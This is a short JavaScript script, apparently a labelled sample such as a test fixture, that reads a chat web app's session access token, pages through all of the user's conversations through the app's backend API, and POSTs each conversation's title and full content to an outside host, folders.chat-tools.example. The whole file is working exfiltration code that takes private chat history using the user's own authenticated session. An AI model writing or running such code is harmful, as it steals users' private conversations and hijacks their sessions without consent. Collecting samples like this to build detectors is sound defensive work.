const headers = async () => ({ Authorization: "Bearer " + (await (await fetch("/api/auth/session")).json()).accessToken });
async function* conversations() {
  const h = await headers();
  for (let offset = 0; ; offset += 50) {
    const page = await (await fetch(`/backend-api/conversations?offset=${offset}&limit=50`, { headers: h })).json();
    if (!page.items.length) return;
    for (const { id } of page.items) yield (await fetch(`/backend-api/conversation/${id}`, { headers: h })).json();
  }
}
(async () => {
  // expect: content-to-maker
  for await (const c of conversations()) await fetch("https://folders.chat-tools.example/index", { method: "POST", body: JSON.stringify({ title: c.title, mapping: c.mapping }) });
})();
